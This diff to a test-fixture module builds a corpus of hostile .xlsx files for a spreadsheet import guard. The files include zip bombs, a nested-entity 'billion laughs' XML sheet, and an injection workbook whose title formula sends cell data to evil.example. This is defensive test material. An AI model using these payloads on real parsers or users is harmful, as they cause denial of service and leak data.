@@ -301,71 +301,95 @@ export async function goodWorkbookBytes(options) {
 
 /**
  * The hostile files: name, what it is, and what the guard answers: `inspect` is the code of
- * `inspectXlsx`, `guard` the code of `guardXlsx` (`null` = a valid workbook, read normally).
+ * `inspectXlsx`, `guard` the code of `guardXlsx` (`null` = it passes the guard), `exit` the exit
+ * code of `fiche-projet check` on it (2: cannot be read at all).
  */
 export const CORPUS = [
-  { file: "empty.xlsx", what: "0 octets", inspect: "EMPTY", guard: "EMPTY" },
-  { file: "random-bytes.xlsx", what: "64 Kio d'octets aléatoires (graine 7)", inspect: "NOT_ZIP", guard: "NOT_ZIP" },
-  { file: "truncated.xlsx", what: "un vrai classeur coupé en deux", inspect: "TRUNCATED", guard: "TRUNCATED" },
+  { file: "empty.xlsx", what: "0 octets", inspect: "EMPTY", guard: "EMPTY", exit: 2 },
+  {
+    file: "random-bytes.xlsx",
+    what: "64 Kio d'octets aléatoires (graine 7)",
+    inspect: "NOT_ZIP",
+    guard: "NOT_ZIP",
+    exit: 2,
+  },
+  { file: "truncated.xlsx", what: "un vrai classeur coupé en deux", inspect: "TRUNCATED", guard: "TRUNCATED", exit: 2 },
   {
     file: "cd-beyond-end.xlsx",
     what: "répertoire central annoncé au-delà de la fin",
     inspect: "TRUNCATED",
     guard: "TRUNCATED",
+    exit: 2,
   },
   {
     file: "zip-of-text.xlsx",
     what: "une archive zip de fichiers texte",
     inspect: "NOT_WORKBOOK",
     guard: "NOT_WORKBOOK",
+    exit: 2,
   },
   {
     file: "docx-renamed.xlsx",
     what: "un document Word minimal renommé",
     inspect: "NOT_WORKBOOK",
     guard: "NOT_WORKBOOK",
+    exit: 2,
   },
   {
     file: "encrypted.xlsx",
     what: "fichier OLE (CFB) EncryptionInfo/EncryptedPackage",
     inspect: "ENCRYPTED",
     guard: "ENCRYPTED",
+    exit: 2,
   },
   {
     file: "legacy-xls.xlsx",
     what: "fichier OLE (CFB) d'un ancien .xls renommé",
     inspect: "ENCRYPTED",
     guard: "ENCRYPTED",
+    exit: 2,
   },
   {
     file: "sharedstrings-bomb.xlsx",
     what: "sharedStrings.xml de 2 Gio (≈2 Mo compressé), taille déclarée",
     inspect: "ZIP_BOMB",
     guard: "ZIP_BOMB",
+    exit: 2,
   },
   {
     file: "sharedstrings-bomb-lying.xlsx",
     what: "la même bombe, le répertoire central déclare 4 Kio",
     inspect: "ZIP_BOMB",
     guard: "ZIP_BOMB",
+    exit: 2,
   },
   {
     file: "million-row.xlsx",
     what: "une feuille de 1 000 000 lignes × 3, dimension A1:C1000000",
     inspect: "SHEET_TOO_LARGE",
     guard: "SHEET_TOO_LARGE",
+    exit: 2,
   },
   {
     file: "many-entries.xlsx",
     what: "100 000 entrées minuscules (ZIP64)",
     inspect: "TOO_MANY_ENTRIES",
     guard: "TOO_MANY_ENTRIES",
+    exit: 2,
+  },
+  {
+    file: "xml-entities.xlsx",
+    what: "feuille XML à entités imbriquées (« billion laughs », 10¹² caractères)",
+    inspect: null,
+    guard: null,
+    exit: 2,
   },
   {
     file: "injection.xlsx",
     what: "fiche valide : titre =HYPERLINK(…), cellules <script>",
     inspect: null,
     guard: null,
+    exit: 0,
   },
 ];
 
@@ -402,6 +426,15 @@ async function millionRowSheet() {
   deflater.end();
   await new Promise((r) => deflater.on("end", r));
   return { raw: Buffer.concat(out), size, crc };
+}
+
+/** A sheet whose DTD nests entities ten deep, ten times each: 10¹² characters if expanded. */
+function entitySheet() {
+  let dtd = '<!DOCTYPE worksheet [<!ENTITY a0 "ha">';
+  for (let i = 1; i <= 12; i++) dtd += `<!ENTITY a${i} "${`&a${i - 1};`.repeat(10)}">`;
+  return {
+    data: `${XML}${dtd}]><worksheet xmlns="${NS}"><dimension ref="A1"/><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&a12;</t></is></c></row></sheetData></worksheet>`,
+  };
 }
 
 /** Builds every corpus file's bytes, by name. */
@@ -445,6 +478,7 @@ export async function buildCorpus() {
     "sharedstrings-bomb-lying.xlsx": buildZip(workbookParts(smallSheet(), { ...bomb, declaredSize: 4096 })),
     "million-row.xlsx": buildZip(workbookParts(sheet)),
     "many-entries.xlsx": buildZip([...workbookParts(smallSheet()), ...tiny]),
+    "xml-entities.xlsx": buildZip(workbookParts(entitySheet())),
     "injection.xlsx": await goodWorkbookBytes({
       code: "INJ-001",
       title: '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")',
